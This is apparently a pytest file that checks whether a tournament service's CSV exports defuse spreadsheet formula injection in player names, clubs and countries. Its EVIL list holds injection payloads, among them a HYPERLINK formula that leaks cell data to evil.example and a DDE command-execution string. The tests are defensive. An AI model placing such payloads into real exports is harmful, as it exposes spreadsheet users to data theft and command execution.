"""Every CSV the project writes neutralises formula cells: a name, club or country typed as ``=...``, ``+...``,
``-...``, ``@...`` (or after a tab or carriage return) reaches the spreadsheet as text, never as a formula.

Through the real commands (``tournament export --csv``, ``records export --csv``) on SQLite, and a kept
game's CSV; the web's ``/api/tournament/results.csv`` serves the same ``ema_csv`` as the command
(tests/test_tournament_day.py compares the two byte for byte)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from tablesvc.cli import main
from tablesvc.records.records_db import GameInfo, RecordsStore
from tablesvc.rules.payments import final_standings
from tablesvc.rules.ruleset import get_ruleset
from tablesvc.text import FORMULA_STARTS, spreadsheet_cell

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", EVIL)
def test_a_formula_cell_becomes_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ann", "", "O'Neil", "-12.5", "+3", "1.0", 42, -7, 3.5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert spreadsheet_cell(value) == value


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a plain number may start so (-12.5 in a results report)


def test_tournament_export_csv_writes_names_clubs_and_countries_as_text(tmp_path, capsys):
    db = str(tmp_path / "records.sqlite3")
    players = tmp_path / "players.csv"
    rows = [["Name", "EMA id", "Club", "Country"], [EVIL[0], "", "@Club", "-DE"], ["+Ann Smith", "", "Club", "FR"],
            ["Bob", "", "=1+1", "DE"], ["Cat", "", "Club", "DE"]]
    with players.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    assert main(["tournament", "create", "Open", "--rounds", "1", "--rules", "ema2016", "--db", db]) == 0
    assert main(["tournament", "import-players", str(players), "--db", db]) == 0
    capsys.readouterr()
    assert main(["tournament", "export", "--csv", "--db", db]) == 0
    out = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    _no_formula(out)
    names = {r[1] for r in out[1:]}
    assert "'" + EVIL[0] in names and "'+Ann" in names
    assert "'-DE" in {r[7] for r in out[1:]}


def test_records_export_csv_writes_names_typed_at_a_table_as_text(tmp_path, capsys):
    db = str(tmp_path / "records.sqlite3")
    names = [EVIL[0], "@SUM(A1:A9)", "-2+3", "Dai"]
    standings = final_standings([38000, 28000, 28000, 26000], get_ruleset("ema2016"))
    ranking = [{"seat": s.seat, "name": names[s.seat], "place": s.place, "points": s.points, "uma": s.uma,
                "oka": s.oka, "penalty": s.penalty, "result": s.result} for s in standings]
    with RecordsStore(db) as store:
        info = GameInfo(datetime.now(UTC).isoformat(timespec="milliseconds"), tuple(names), "ema2016")
        store.record_final("club", "t1", info, {"ranking": ranking, "leftover_sticks": 0, "seq": 99})
    assert main(["records", "export", "--csv", "--db", db]) == 0
    out = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(out) == 5
    _no_formula(out)
    assert {r[6] for r in out[1:]} == {"'" + n if n[0] in "=@-" else n for n in names}
    result = out[0].index("result")
    assert any(r[result].startswith("-") for r in out[1:])  # the results stay numbers


def test_a_kept_games_csv_writes_the_players_names_as_text(tmp_path):
    from tablesvc.archive import game_csv, list_games
    from tablesvc.engine.events import GameStart
    from tablesvc.storage.journal import Journal
    from tablesvc.storage.table import Table

    with Journal.for_table(tmp_path, "t1", site="club") as journal:
        Table(journal).submit(GameStart(players=("=1+1", "@x", "Ann", "Bob")), source="referee:r", ts=1000.0)
    game = list_games(tmp_path)[0]
    out = list(csv.reader(io.StringIO(game_csv(game))))
    _no_formula(out)
    assert out[0][4:6] == ["'=1+1", "'@x"]
